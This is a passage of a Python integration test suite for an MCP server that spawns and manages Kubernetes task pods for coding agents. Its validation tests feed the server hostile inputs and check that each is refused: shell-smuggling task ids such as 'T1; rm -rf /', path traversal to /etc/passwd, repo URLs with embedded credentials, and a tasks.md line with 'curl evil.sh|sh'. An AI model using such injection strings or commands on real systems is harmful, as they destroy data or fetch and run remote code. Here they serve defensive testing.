"""The MCP server over real stdio (the SDK's client) against the real control plane with the chart
installed: what a client receives, exactly, and what it does to the cluster."""

from __future__ import annotations

import asyncio
import json
import os
import re
import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import anyio
import pytest

from mcp_server import naming
from mcp_server.server import HEARTBEAT_SECONDS
from tests.conftest import wait_until
from tests.support.mcp_client import McpClient, Progress, connect
from tests.support.runner_env import (
    FEATURE,
    ORIGIN,
    POD_TEMPLATE,
    RELEASE,
    Cluster,
    install_chart,
    make_repo,
    result_json,
    server_env,
)
from tests.support.testenv import REPO_ROOT, TestEnv

pytestmark = pytest.mark.integration

# A token-shaped value made per run (a GitHub token is ghp_ + 36 characters).
FAKE_GITHUB_TOKEN = "ghp_" + secrets.token_hex(18)

SNAPSHOT = REPO_ROOT / "tests" / "support" / "snapshots" / "mcp_tools.json"


@dataclass(frozen=True)
class World:
    testenv: TestEnv
    namespace: str
    repo: Path
    cluster: Cluster

    def env(self, who: str = "developer", **extra: str) -> dict[str, str]:
        return server_env(self.testenv, self.namespace, self.repo, who, **extra)


@pytest.fixture
def world(testenv: TestEnv, namespace: str, tmp_path: Path) -> Iterator[World]:
    install_chart(testenv, namespace)
    yield World(testenv, namespace, make_repo(tmp_path / "repo"), Cluster(testenv, namespace))


def spawn_args(task_id: str, **extra: object) -> dict[str, object]:
    return {"task_id": task_id, "description": f"Do {task_id} in src/{task_id.lower()}.py", **extra}


# -- the tool list ------------------------------------------------------------------------------


async def test_tool_list_matches_the_snapshot(world: World) -> None:
    async with connect(world.env()) as mcp:
        tools = await mcp.tools()
    names = [t["name"] for t in tools]
    assert names == [
        "spawn_task_pod",
        "spawn_async_tasks",
        "stream_task_logs",
        "list_agents",
        "get_task_status",
        "retry_task",
        "cancel_task",
        "merge_task_branches",
        "cleanup_tasks",
    ]
    annotations = {t["name"]: t["annotations"] for t in tools}
    for name in ("stream_task_logs", "list_agents", "get_task_status"):
        assert annotations[name]["readOnlyHint"] is True and annotations[name]["destructiveHint"] is False
    for name in ("cancel_task", "cleanup_tasks"):
        assert annotations[name]["destructiveHint"] is True and annotations[name]["readOnlyHint"] is False
    assert annotations["merge_task_branches"]["destructiveHint"] is False  # it never forces
    assert annotations["retry_task"]["destructiveHint"] is False and annotations["retry_task"]["idempotentHint"]
    assert all(t.get("title") and t.get("description") and t.get("outputSchema") for t in tools)
    if os.environ.get("UPDATE_SNAPSHOTS"):
        SNAPSHOT.parent.mkdir(parents=True, exist_ok=True)
        SNAPSHOT.write_text(json.dumps(tools, indent=2, sort_keys=True) + "\n")
    assert SNAPSHOT.is_file(), f"no snapshot {SNAPSHOT}: run once with UPDATE_SNAPSHOTS=1 and review it"
    assert tools == json.loads(SNAPSHOT.read_text())


# -- spawn ------------------------------------------------------------------------------------


async def test_spawn_creates_a_job_from_the_chart_podtemplate(world: World) -> None:
    async with connect(world.env()) as mcp:
        result = await mcp.call(
            "spawn_task_pod",
            spawn_args("T002", context_files=[f"specs/{FEATURE}/plan.md"], model="anthropic/claude-sonnet-4-5"),
        )
    job_name = naming.job_name("T002", FEATURE)
    assert result.ok == {
        "task_id": "T002",
        "job": job_name,
        "namespace": world.namespace,
        "environment": "dev",
        "branch": f"agentic/{FEATURE}/T002",
        "base_branch": FEATURE,
        "created": True,
        "backend": "kubernetes",
        "attempt": 1,
    }
    job = world.cluster.get("job", job_name)
    template = world.cluster.get("podtemplate", POD_TEMPLATE)

    # The pod's shape is the chart's, untouched: only labels and the task context annotation are added.
    assert job["spec"]["template"]["spec"] == template["template"]["spec"]
    pod_labels = job["spec"]["template"]["metadata"]["labels"]
    for key, value in template["template"]["metadata"]["labels"].items():
        assert pod_labels[key] == value
    task_labels = naming.task_labels("T002", FEATURE, "dev")
    assert {k: pod_labels[k] for k in task_labels} == task_labels
    assert {k: job["metadata"]["labels"][k] for k in task_labels} == task_labels
    assert job["metadata"]["annotations"] == {
        "agentic-sdlc.dev/repo": ORIGIN,
        "agentic-sdlc.dev/base-branch": FEATURE,
        "agentic-sdlc.dev/task-branch": f"agentic/{FEATURE}/T002",
        "agentic-sdlc.dev/description": "Do T002 in src/t002.py",
    }
    context = json.loads(job["spec"]["template"]["metadata"]["annotations"]["agentic-sdlc.dev/task-context"])
    # The runner's deadline: the Job's creation + activeDeadlineSeconds (taken just before creating it).
    deadline = datetime.fromisoformat(context.pop("deadline"))
    created = datetime.fromisoformat(job["metadata"]["creationTimestamp"])
    assert timedelta(seconds=7200 - 5) <= deadline - created <= timedelta(seconds=7200)
    assert context == {
        "task_id": "T002",
        "description": "Do T002 in src/t002.py",
        "repo": ORIGIN,
        "base_branch": FEATURE,
        "task_branch": f"agentic/{FEATURE}/T002",
        "environment": "dev",
        "model": "anthropic/claude-sonnet-4-5",
        "agent": None,
        "feature_dir": None,
        "context_files": [
            {
                "path": f"specs/{FEATURE}/plan.md",
                "content": (world.repo / "specs" / FEATURE / "plan.md").read_text(),
            }
        ],
        "max_cost": None,  # the environment's (chart) budget and idle limit apply
        "max_tokens": None,
        "idle_timeout_seconds": None,
    }
    # The task defaults come from the PodTemplate's annotations.
    assert (
        job["spec"]["activeDeadlineSeconds"],
        job["spec"]["ttlSecondsAfterFinished"],
        job["spec"]["backoffLimit"],
    ) == (7200, 300, 0)
    # The chart mounts that annotation through the downward API: no ConfigMap, no Secret.
    volume = next(v for v in job["spec"]["template"]["spec"]["volumes"] if v["name"] == "task-context")
    assert (
        volume["downwardAPI"]["items"][0]["fieldRef"]["fieldPath"]
        == "metadata.annotations['agentic-sdlc.dev/task-context']"
    )
    pod = world.cluster.pods(job_name)[0] if world.cluster.pods(job_name) else None
    pod_name = world.cluster.pod_of(job_name)
    pod = next(p for p in world.cluster.pods(job_name) if p["metadata"]["name"] == pod_name)
    assert pod["spec"]["nodeName"].startswith("kwok-node-")
    assert "T002" in result.ok["branch"]


async def test_ten_identical_spawns_racing_make_exactly_one_job(world: World) -> None:
    async with connect(world.env()) as first, connect(world.env()) as second:
        calls = [client.call("spawn_task_pod", spawn_args("T003")) for client in (first, second) for _ in range(5)]
        results = await asyncio.gather(*calls)
    handles = [r.ok for r in results]
    assert sum(1 for h in handles if h["created"]) == 1
    assert {h["job"] for h in handles} == {naming.job_name("T003", FEATURE)}
    assert [j["metadata"]["name"] for j in world.cluster.jobs()] == [naming.job_name("T003", FEATURE)]


async def test_a_second_spawn_returns_the_existing_task(world: World) -> None:
    async with connect(world.env()) as mcp:
        first = (await mcp.call("spawn_task_pod", spawn_args("T002"))).ok
        again = (await mcp.call("spawn_task_pod", spawn_args("T002", description="other words"))).ok
        other_feature = (await mcp.call("spawn_task_pod", spawn_args("T002", base_branch="002-other"))).ok
    assert (first["created"], again["created"], other_feature["created"]) == (True, False, True)
    assert again["job"] == first["job"] != other_feature["job"]
    assert len(world.cluster.jobs()) == 2


# -- logs -------------------------------------------------------------------------------------


async def test_log_lines_come_in_order_and_a_cursor_returns_only_newer_ones(world: World) -> None:
    async with connect(world.env()) as mcp:
        handle = (await mcp.call("spawn_task_pod", spawn_args("T002"))).ok
        pod = world.cluster.pod_of(handle["job"])
        world.cluster.log(pod, *[f"line {i}" for i in range(5)])
        first = (await mcp.call("stream_task_logs", {"task_ids": ["T002"], "wait_seconds": 1})).ok
        assert [(line["task_id"], line["text"]) for line in first["lines"]] == [("T002", f"line {i}") for i in range(5)]
        assert first["tasks"] == [
            {
                "task_id": "T002",
                "base_branch": FEATURE,
                "job": handle["job"],
                "phase": "running",
                "finished": False,
            }
        ]
        assert (first["more"], first["all_finished"]) == (False, False)

        world.cluster.log(pod, "line 5")
        second = (
            await mcp.call("stream_task_logs", {"task_ids": ["T002"], "cursor": first["cursor"], "wait_seconds": 1})
        ).ok
        assert [line["text"] for line in second["lines"]] == ["line 5"]
        third = (
            await mcp.call("stream_task_logs", {"task_ids": ["T002"], "cursor": second["cursor"], "wait_seconds": 0})
        ).ok
        assert third["lines"] == []

        # max_lines: the rest waits for the next call, nothing is lost.
        world.cluster.log(pod, *[f"more {i}" for i in range(7)])
        part = (await mcp.call("stream_task_logs", {"cursor": third["cursor"], "wait_seconds": 0, "max_lines": 4})).ok
        rest = (await mcp.call("stream_task_logs", {"cursor": part["cursor"], "wait_seconds": 0})).ok
        assert part["more"] is True
        assert [line["text"] for line in part["lines"] + rest["lines"]] == [f"more {i}" for i in range(7)]


async def test_progress_notifications_keep_a_waiting_call_alive_then_carry_the_first_lines(world: World) -> None:
    """A call waits for its first line with heartbeats (every HEARTBEAT_SECONDS), then returns the
    lines that came, the latest of them in a progress notification."""
    async with connect(world.env()) as mcp:
        handle = (await mcp.call("spawn_task_pod", spawn_args("T002"))).ok
        pod = world.cluster.pod_of(handle["job"])
        progress = Progress()

        async def talk() -> None:
            await anyio.sleep(HEARTBEAT_SECONDS + 1.5)
            world.cluster.log(pod, "working 0", "working 1")

        async with anyio.create_task_group() as tg:
            tg.start_soon(talk)
            result = (
                await mcp.call("stream_task_logs", {"task_ids": ["T002"], "wait_seconds": 30}, progress=progress)
            ).ok
    assert [line["text"] for line in result["lines"]] == ["working 0", "working 1"]
    assert progress.messages[0].startswith("waiting for log lines (T002 ")
    assert progress.messages[-1] == "[T002] working 1"
    assert not [m for m in progress.messages if m.startswith("[T002]")][:-1]
    values = [p for p, _, _ in progress.events]
    assert values == sorted(values) and len(set(values)) == len(values)


TRANSIENT = ("cluster unavailable", "forbidden")


async def read_until(
    mcp: McpClient, cursor: str | None, expected: int, wait: float = 3, tolerate: tuple[str, ...] = ()
) -> tuple[list[str], str | None]:
    """Call stream_task_logs with the cursor until `expected` lines came (at most 10 calls)."""
    seen: list[str] = []
    for _ in range(10):
        if len(seen) >= expected:
            break
        result = await mcp.call("stream_task_logs", {"task_ids": ["T002"], "cursor": cursor, "wait_seconds": wait})
        if result.is_error:
            # While it comes back, the API server is unreachable, then answers 5xx, then (its RBAC rules
            # not loaded yet) 403 for a moment: an error delivers nothing and the cursor stays.
            assert any(s in result.text for s in tolerate), result.text
            continue
        seen += [line["text"] for line in result.ok["lines"]]
        cursor = result.ok["cursor"]
    return seen, cursor


async def test_an_api_server_restart_mid_stream_loses_and_repeats_nothing(world: World) -> None:
    async with connect(world.env()) as mcp:
        handle = (await mcp.call("spawn_task_pod", spawn_args("T002"))).ok
        pod = world.cluster.pod_of(handle["job"])
        world.cluster.log(pod, "before 0", "before 1")
        before, cursor = await read_until(mcp, None, 2)
        assert before == ["before 0", "before 1"]

        async def disturb() -> None:
            await anyio.sleep(1)
            world.cluster.log(pod, "during 0", "during 1")
            await anyio.to_thread.run_sync(world.testenv.restart, "kube-apiserver")
            world.cluster.log(pod, "after 0", "after 1")

        async with anyio.create_task_group() as tg:
            tg.start_soon(disturb)
            # One call waits through the restart; the following ones pick up from its cursor.
            seen, cursor = await read_until(mcp, cursor, 1, wait=8, tolerate=TRANSIENT)
        rest, _ = await read_until(mcp, cursor, 4 - len(seen), tolerate=TRANSIENT)
    assert seen + rest == ["during 0", "during 1", "after 0", "after 1"]


async def test_restarting_the_mcp_server_loses_nothing(world: World) -> None:
    async with connect(world.env()) as mcp:
        handles = [(await mcp.call("spawn_task_pod", spawn_args(t))).ok for t in ("T002", "T003", "T005")]
        pod = world.cluster.pod_of(handles[0]["job"])
        world.cluster.log(pod, "old line")
        seen: list[str] = []
        cursor = None
        while not seen:
            chunk = (await mcp.call("stream_task_logs", {"cursor": cursor, "wait_seconds": 2})).ok
            seen, cursor = [line["text"] for line in chunk["lines"]], chunk["cursor"]
        assert seen == ["old line"]
    world.cluster.log(pod, "new line")
    async with connect(world.env()) as mcp:
        listed = (await mcp.call("list_agents", {})).ok
        logs = (await mcp.call("stream_task_logs", {"cursor": cursor, "wait_seconds": 1})).ok
    assert sorted(a["task_id"] for a in listed["agents"]) == ["T002", "T003", "T005"]
    assert {a["job"] for a in listed["agents"]} == {h["job"] for h in handles}
    assert [line["text"] for line in logs["lines"]] == ["new line"]


# -- list, status, cancel, cleanup -------------------------------------------------------------


async def test_list_and_status_show_phases_results_and_last_lines(world: World) -> None:
    async with connect(world.env()) as mcp:
        jobs = {t: (await mcp.call("spawn_task_pod", spawn_args(t))).ok["job"] for t in ("T002", "T003", "T005")}
        pods = {t: world.cluster.pod_of(job) for t, job in jobs.items()}
        world.cluster.log(pods["T002"], '{"ts": "t", "level": "info", "phase": "agent", "msg": "running opencode"}')
        world.cluster.log(pods["T003"], "bad things", f"AGENTIC_RESULT: {result_json('T003', 'failed', error='boom')}")
        world.cluster.finish(pods["T003"], 1, result_json("T003", "failed", error="boom"))
        world.cluster.log(pods["T005"], f"AGENTIC_RESULT: {result_json('T005')}")
        world.cluster.finish(pods["T005"], 0)  # no termination message: the log marker is the fallback
        for t in ("T003", "T005"):
            world.cluster.wait_job_condition(jobs[t])

        # list_agents reads no log: a task's last line is the one the log relay holds (none yet).
        unread = (await mcp.call("list_agents", {})).ok
        assert [a["last_log_line"] for a in unread["agents"]] == [None, None, None]
        followed = (await mcp.call("stream_task_logs", {"task_ids": ["T002"], "wait_seconds": 2})).ok
        assert [line["text"] for line in followed["lines"]] == [
            '{"ts": "t", "level": "info", "phase": "agent", "msg": "running opencode"}'
        ]

        listed = (await mcp.call("list_agents", {})).ok
        by_id = {a["task_id"]: a for a in listed["agents"]}
        assert {t: a["phase"] for t, a in by_id.items()} == {
            "T002": "running",
            "T003": "failed",
            "T005": "succeeded",
        }
        assert (
            by_id["T002"]["last_log_line"]
            == '{"ts": "t", "level": "info", "phase": "agent", "msg": "running opencode"}'
        )
        assert by_id["T003"]["result_summary"] == "boom"  # a task that did not succeed: its error first
        assert by_id["T002"]["node"].startswith("kwok-node-")
        assert listed["counts"] == {
            "pending": 0,
            "running": 1,
            "succeeded": 1,
            "failed": 1,
            "timed_out": 0,
            "cancelled": 0,
            "budget_exceeded": 0,
            "stalled": 0,
        }

        failed = (await mcp.call("get_task_status", {"task_id": "T003"})).ok
        assert (failed["phase"], failed["reason"], failed["exit_code"]) == (
            "failed",
            "BackoffLimitExceeded",
            1,
        )
        assert failed["result"] == {**json.loads(result_json("T003", "failed", error="boom")), "usage": None}
        done = (await mcp.call("get_task_status", {"task_id": "T005"})).ok
        assert done["phase"] == "succeeded" and done["result"] == {**json.loads(result_json("T005")), "usage": None}
        running = (await mcp.call("get_task_status", {"task_id": "T002"})).ok
        assert (running["phase"], running["step"], running["result"]) == ("running", "agent", None)
        tail = (await mcp.call("get_task_status", {"task_id": "T003"})).ok
        assert tail["last_log_line"].startswith("AGENTIC_RESULT: ")  # status still reads the log's end
        missing = await mcp.call("get_task_status", {"task_id": "T404"})
        unknown = await mcp.call("stream_task_logs", {"task_ids": ["T002", "T404", "T405"], "wait_seconds": 0})
    assert missing.error == (
        f"Error executing tool get_task_status: no task T404 in environment 'dev' (namespace "
        f"'{world.namespace}'). list_agents shows the tasks that exist."
    )
    assert unknown.error == (
        f"Error executing tool stream_task_logs: no task T404, T405 in environment 'dev' (namespace "
        f"'{world.namespace}'). list_agents shows the tasks that exist."
    )


async def test_list_agents_of_all_environments_reports_the_ones_it_cannot_read(world: World) -> None:
    """stg and prod point at their default namespaces, where the developer has no rights here."""
    async with connect(world.env()) as mcp:
        await mcp.call("spawn_task_pod", spawn_args("T002"))
        listed = (await mcp.call("list_agents", {"all_environments": True})).ok
    assert listed["environments"] == ["dev", "prod", "stg"]
    assert [(a["task_id"], a["environment"]) for a in listed["agents"]] == [("T002", "dev")]
    assert [e.split(": forbidden: ")[0] for e in listed["errors"]] == ["prod", "stg"]
    assert "may not list jobs.batch in namespace 'agent-runner-prod'" in listed["errors"][0]


def log_requests(testenv: TestEnv) -> float:
    """Completed `GET pods/log` requests the API server counted so far (its own metrics)."""
    metrics = testenv.kubectl("get", "--raw", "/metrics").stdout
    total = 0.0
    for line in metrics.splitlines():
        if line.startswith("apiserver_request_total{") and 'resource="pods"' in line and 'subresource="log"' in line:
            total += float(line.rsplit(" ", 1)[1])
    return total


async def test_list_agents_reads_no_log_and_pages_through_the_tasks(world: World) -> None:
    async with connect(world.env()) as mcp:
        jobs = {t: (await mcp.call("spawn_task_pod", spawn_args(t))).ok["job"] for t in ("T002", "T003", "T005")}
        for job in jobs.values():
            world.cluster.log(world.cluster.pod_of(job), "a line nobody asked for")
        before = log_requests(world.testenv)
        everything = (await mcp.call("list_agents", {})).ok
        assert log_requests(world.testenv) == before  # no log read, whatever the number of tasks
        assert sorted(a["job"] for a in everything["agents"]) == sorted(jobs.values())
        assert everything["continue_token"] is None and everything["remaining"] is None

        first = (await mcp.call("list_agents", {"limit": 2})).ok
        second = (await mcp.call("list_agents", {"limit": 2, "continue_token": first["continue_token"]})).ok
        # The API server counts no remaining items for a list with a label selector.
        assert (len(first["agents"]), first["remaining"], len(second["agents"])) == (2, None, 1)
        assert second["continue_token"] is None
        assert sorted(a["job"] for a in first["agents"] + second["agents"]) == sorted(jobs.values())
        assert sum(first["counts"].values()) == 2

        forged = await mcp.call("list_agents", {"limit": 2, "continue_token": "bm90LWEtdG9rZW4"})
        spaced = await mcp.call("list_agents", {"continue_token": "not a token"})
        zero = await mcp.call("list_agents", {"limit": 0})
        everywhere = await mcp.call("list_agents", {"limit": 2, "all_environments": True})
    allowed = "the `continue_token` of the previous list_agents result of the same environment, or empty."
    assert forged.error == (
        "Error executing tool list_agents: invalid continue_token: it is not a continue token of this list; "
        f"list again from the start; allowed: {allowed}"
    )
    assert spaced.error == (
        f"Error executing tool list_agents: invalid continue_token: it is not a continue token of list_agents; "
        f"allowed: {allowed}"
    )
    assert zero.error == "Error executing tool list_agents: invalid limit: input should be greater than or equal to 1."
    assert everywhere.error == (
        "Error executing tool list_agents: invalid limit: pages are per environment; allowed: empty with "
        "all_environments."
    )
    assert len(world.cluster.jobs()) == 3  # nothing created, nothing deleted


async def test_a_followed_pod_is_read_from_its_open_stream_not_again_and_again(world: World) -> None:
    async with connect(world.env()) as mcp:
        handle = (await mcp.call("spawn_task_pod", spawn_args("T002"))).ok
        pod = world.cluster.pod_of(handle["job"])
        world.cluster.log(pod, "first")
        before = log_requests(world.testenv)
        seen, cursor = await read_until(mcp, None, 1)
        for i in range(5):
            world.cluster.log(pod, f"next {i}", f"and {i}")
            more, cursor = await read_until(mcp, cursor, 2, wait=2)
            seen += more
        # The follow request is still open (counted when it ends): no log was read for these calls.
        assert log_requests(world.testenv) == before
        listed = (await mcp.call("list_agents", {})).ok
    assert seen == ["first"] + [text for i in range(5) for text in (f"next {i}", f"and {i}")]
    assert listed["agents"][0]["last_log_line"] == "and 4"  # the line the relay holds


async def test_cancel_and_cleanup(world: World) -> None:
    async with connect(world.env()) as mcp:
        jobs = {t: (await mcp.call("spawn_task_pod", spawn_args(t))).ok["job"] for t in ("T002", "T003", "T005")}
        pods = {t: world.cluster.pod_of(job) for t, job in jobs.items()}
        world.cluster.finish(pods["T002"], 0, result_json("T002"))
        world.cluster.finish(pods["T003"], 1, result_json("T003", "failed"))
        for t in ("T002", "T003"):
            world.cluster.wait_job_condition(jobs[t])

        dry = (await mcp.call("cleanup_tasks", {"dry_run": True})).ok
        assert sorted(i["task_id"] for i in dry["deleted"]) == ["T002", "T003"]
        assert (dry["dry_run"], dry["kept"]) == (True, 1)
        assert len(world.cluster.jobs()) == 3
        young = (await mcp.call("cleanup_tasks", {"older_than_minutes": 60})).ok
        assert (young["deleted"], young["kept"]) == ([], 3)

        cleaned = (await mcp.call("cleanup_tasks", {})).ok
        assert sorted(i["task_id"] for i in cleaned["deleted"]) == ["T002", "T003"]
        assert cleaned["message"].startswith("deleted 2 finished task(s) in environment 'dev': ")
        for t in ("T002", "T003"):
            world.cluster.wait_job_gone(jobs[t])

        cancelled = (await mcp.call("cancel_task", {"task_id": "T005"})).ok
        assert cancelled == {
            "task_id": "T005",
            "environment": "dev",
            "namespace": world.namespace,
            "deleted_jobs": [jobs["T005"]],
            "deleted_pods": [pods["T005"]],
            "message": f"cancelled task T005: deleted Job {jobs['T005']} and pod {pods['T005']}.",
            "result": None,  # the kwok pod's agent printed no result while it stopped
        }
        world.cluster.wait_job_gone(jobs["T005"])
        wait_until(lambda: not world.cluster.pods(jobs["T005"]), message="the cancelled task's pod to go")
        again = (await mcp.call("cancel_task", {"task_id": "T005"})).ok
        assert (again["deleted_jobs"], again["deleted_pods"]) == ([], [])
        assert again["message"] == (
            f"task T005 has no Job in namespace '{world.namespace}': nothing to cancel (it is gone already)."
        )
        listed = (await mcp.call("list_agents", {})).ok
    assert listed["agents"] == []


async def test_a_task_past_its_deadline_is_timed_out(world: World) -> None:
    """The deadline is the Job's activeDeadlineSeconds, enforced by the job controller (1 minute is the
    smallest timeout_minutes)."""
    async with connect(world.env()) as mcp:
        handle = (await mcp.call("spawn_task_pod", spawn_args("T002", timeout_minutes=1))).ok
        assert world.cluster.get("job", handle["job"])["spec"]["activeDeadlineSeconds"] == 60
        assert world.cluster.wait_job_condition(handle["job"], timeout=150) == "Failed"
        status = (await mcp.call("get_task_status", {"task_id": "T002"})).ok
    assert (status["phase"], status["reason"]) == ("timed_out", "DeadlineExceeded")


# -- spec-kit ------------------------------------------------------------------------------------


async def test_spawn_async_tasks_wave_by_wave(world: World) -> None:
    tasks_file = f"specs/{FEATURE}/tasks.md"
    state = world.repo / "specs" / FEATURE / ".async_state"
    async with connect(world.env()) as mcp:
        plan = (await mcp.call("spawn_async_tasks", {"tasks_file": tasks_file, "dry_run": True})).ok
        assert plan["waves"] == [["T002", "T003"], ["T005"]]
        assert [(p["task_id"], p["wave"], p["action"]) for p in plan["plan"]] == [
            ("T002", 1, "spawn"),
            ("T003", 1, "spawn"),
            ("T005", 2, "wait"),
        ]
        assert plan["plan"][2]["reason"] == "wave 1 is not finished (T002, T003, T004)"
        assert plan["handles"] == [] and world.cluster.jobs() == [] and not state.exists()

        first = (await mcp.call("spawn_async_tasks", {"tasks_file": tasks_file})).ok
        assert [(h["task_id"], h["created"]) for h in first["handles"]] == [("T002", True), ("T003", True)]
        assert (
            first["message"]
            == "spawned 2, 0 already exist, 1 waiting (call again when the running tasks have finished)"
        )
        assert (state / "delegation_prompts" / "T002.md").is_file()
        jobs = {h["task_id"]: h["job"] for h in first["handles"]}
        for t in ("T002", "T003"):
            world.cluster.finish(world.cluster.pod_of(jobs[t]), 0, result_json(t))
            world.cluster.wait_job_condition(jobs[t])
        # The [SYNC] task of wave 1 is done by the main session:
        tasks_md = world.repo / "specs" / FEATURE / "tasks.md"
        tasks_md.write_text(tasks_md.read_text().replace("- [ ] T004", "- [X] T004"))

        second = (await mcp.call("spawn_async_tasks", {"tasks_file": tasks_file})).ok
    assert [(p["task_id"], p["action"]) for p in second["plan"]] == [
        ("T002", "exists"),
        ("T003", "exists"),
        ("T005", "spawn"),
    ]
    assert sorted((h["task_id"], h["created"]) for h in second["handles"]) == [
        ("T002", False),
        ("T003", False),
        ("T005", True),
    ]
    assert "summary: T002 done" in (state / "delegation_completed" / "T002.txt").read_text()
    meta = json.loads((world.repo / "specs" / FEATURE / "tasks_meta.json").read_text())
    assert meta["tasks"]["T002"]["status"] == "completed" and meta["tasks"]["T005"]["status"] == "in_progress"
    assert meta["tasks"]["T005"]["execution_mode"] == "ASYNC"


# -- refused input: a clear message naming the field, and nothing created ------------------------

ALLOWED_ID = (
    "allowed: 1 to 40 letters, digits, '-' or '_', starting and ending with a letter or digit (for example T012)."
)
ALLOWED_PATH = "allowed: a path of a file inside the repository, relative to its root."


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (
            {"task_id": "T1; rm -rf /"},
            f"invalid task_id: it contains characters that are not allowed; {ALLOWED_ID}",
        ),
        (
            {"task_id": "T1$(reboot)"},
            f"invalid task_id: it contains characters that are not allowed; {ALLOWED_ID}",
        ),
        (
            {"task_id": "T1\nT2"},
            f"invalid task_id: it contains characters that are not allowed; {ALLOWED_ID}",
        ),
        ({"task_id": ".."}, f"invalid task_id: it contains characters that are not allowed; {ALLOWED_ID}"),
        ({"task_id": "T" * 300}, f"invalid task_id: it is 300 characters long; {ALLOWED_ID}"),
        (
            {"context_files": ["../outside.txt"]},
            f"invalid context_files[0]: it is outside the repository; {ALLOWED_PATH}",
        ),
        (
            {"context_files": ["/etc/passwd"]},
            f"invalid context_files[0]: it is outside the repository; {ALLOWED_PATH}",
        ),
        (
            {"context_files": ["README.md", "escape/passwd"]},
            f"invalid context_files[1]: it leads out of the repository through a symlink; {ALLOWED_PATH}",
        ),
        (
            {"base_branch": "feature branch"},
            f"invalid base_branch: it contains characters that are not allowed in a branch name; allowed: "
            f"{naming.BRANCH_ALLOWED}.",
        ),
        (
            {"base_branch": "feature..x"},
            f"invalid base_branch: it is not a valid git branch name; allowed: {naming.BRANCH_ALLOWED}.",
        ),
        (
            {"environment": "qa"},
            "invalid environment: unknown environment 'qa'; allowed: one of the configured environments: "
            "dev, prod, stg.",
        ),
        (
            {"repo": "https://deploy:hunter2@git.example.com/org/repo.git"},
            f"invalid repo: it contains embedded credentials (user:password@ or token@); allowed: "
            f"{naming.REPO_ALLOWED}.",
        ),
        (
            {"repo": f"https://{FAKE_GITHUB_TOKEN}@github.com/org/repo.git"},
            f"invalid repo: it contains embedded credentials (user:password@ or token@); allowed: "
            f"{naming.REPO_ALLOWED}.",
        ),
        ({"timeout_minutes": 0}, "invalid timeout_minutes: input should be greater than or equal to 1."),
    ],
    ids=[
        "semicolon",
        "subshell",
        "newline",
        "dotdot",
        "300-chars",
        "parent-dir",
        "absolute",
        "symlink",
        "branch-space",
        "branch-dotdot",
        "unknown-env",
        "repo-password",
        "repo-token",
        "timeout",
    ],
)
async def test_bad_spawn_input_is_refused_and_creates_nothing(
    world: World, arguments: dict[str, object], message: str
) -> None:
    (world.repo / "escape").symlink_to("/etc")
    async with connect(world.env()) as mcp:
        result = await mcp.call("spawn_task_pod", {**spawn_args("T002"), **arguments})
    assert result.error == f"Error executing tool spawn_task_pod: {message}"
    for secret in ("hunter2", FAKE_GITHUB_TOKEN[:14]):
        assert secret not in result.error
    assert world.cluster.jobs() == []


async def test_a_bad_task_id_in_tasks_md_is_skipped_with_a_warning_and_never_spawned(world: World) -> None:
    """Attack: a tasks.md line smuggling shell into a task id. spec-kit's reader sees no task there
    (issue 9: such lines are skipped with a warning, never a refusal of the file): it is never
    spawned; the file's real tasks are."""
    tasks_md = world.repo / "specs" / FEATURE / "tasks.md"
    tasks_md.write_text(tasks_md.read_text() + "- [ ] T9;curl evil.sh|sh [ASYNC] pwn\n")
    async with connect(world.env()) as mcp:
        result = (await mcp.call("spawn_async_tasks", {"tasks_file": f"specs/{FEATURE}/tasks.md"})).ok
        outside = await mcp.call("spawn_async_tasks", {"tasks_file": "../../etc/passwd"})
    assert result["warnings"] == [
        "line 11: a checkbox that is not a task (no task id such as T012 after the box): skipped"
    ]
    assert sorted(h["task_id"] for h in result["handles"]) == ["T002", "T003"]
    assert (
        outside.error == "Error executing tool spawn_async_tasks: invalid tasks_file: it is outside the repository; "
        f"{ALLOWED_PATH}"
    )
    labels = sorted(j["metadata"]["labels"][naming.LABEL_TASK_ID] for j in world.cluster.jobs())
    assert labels == ["T002", "T003"]


async def test_unreadable_or_too_big_context_files_are_refused_and_create_nothing(world: World) -> None:
    repo = world.repo
    (repo / "loop").symlink_to("loop")
    (repo / "big.txt").write_text("x" * (64 * 1024 + 1))
    (repo / "binary.bin").write_bytes(b"\xff\xfe\x00")
    for i in range(3):
        (repo / f"part{i}.txt").write_text("y" * (60 * 1024))
    (repo / "escaped.txt").write_text("\x01" * (60 * 1024))  # six bytes of JSON per character
    refused = {
        ("loop",): f"invalid context_files[0]: it leads into a symlink loop; {ALLOWED_PATH}",
        ("a" * 300,): f"invalid context_files[0]: it cannot be read (file name too long); {ALLOWED_PATH}",
        ("README.md", "missing.txt"): (
            f"invalid context_files[1]: there is no such file in the repository; {ALLOWED_PATH}"
        ),
        (".git/config",): f"invalid context_files[0]: it is inside .git; {ALLOWED_PATH}",
        ("big.txt",): "invalid context_files[0]: the file has 65537 bytes; allowed: files of at most 65536 bytes.",
        ("binary.bin",): "invalid context_files[0]: it is not a UTF-8 text file; allowed: text files.",
        ("part0.txt", "part1.txt", "part2.txt"): (
            "invalid context_files: the files have more than 163840 bytes together; allowed: at most 163840 "
            "bytes in all."
        ),
    }
    async with connect(world.env()) as mcp:
        results = {
            paths: await mcp.call("spawn_task_pod", spawn_args("T002", context_files=list(paths)))
            for paths in [*refused, ("escaped.txt",)]
        }
    for paths, message in refused.items():
        assert results[paths].error == f"Error executing tool spawn_task_pod: {message}", paths
    assert re.fullmatch(
        r"Error executing tool spawn_task_pod: invalid context_files: the task context would have \d{6} "
        r"bytes; allowed: at most 204800 bytes with the description\.",
        results[("escaped.txt",)].error or "",
    )
    assert world.cluster.jobs() == []


async def test_unreadable_or_too_big_tasks_files_are_refused_and_create_nothing(world: World) -> None:
    repo = world.repo
    (repo / "loop").symlink_to("loop")
    (repo / "specs" / "big").mkdir()
    (repo / "specs" / "big" / "tasks.md").write_text("- [ ] T001 [ASYNC] x\n" * 60000)
    size = (repo / "specs" / "big" / "tasks.md").stat().st_size
    (repo / "specs" / "binary").mkdir()
    (repo / "specs" / "binary" / "tasks.md").write_bytes(b"- [ ] T001 [ASYNC] \xff\n")
    refused = {
        f"specs/{FEATURE}": f"there is no such file in the repository; {ALLOWED_PATH}",
        "loop": f"it leads into a symlink loop; {ALLOWED_PATH}",
        "specs/big/tasks.md": f"the file has {size} bytes; allowed: files of at most 1048576 bytes.",
        "specs/binary/tasks.md": "it is not a UTF-8 text file; allowed: a spec-kit tasks.md.",
    }
    async with connect(world.env()) as mcp:
        for tasks_file, message in refused.items():
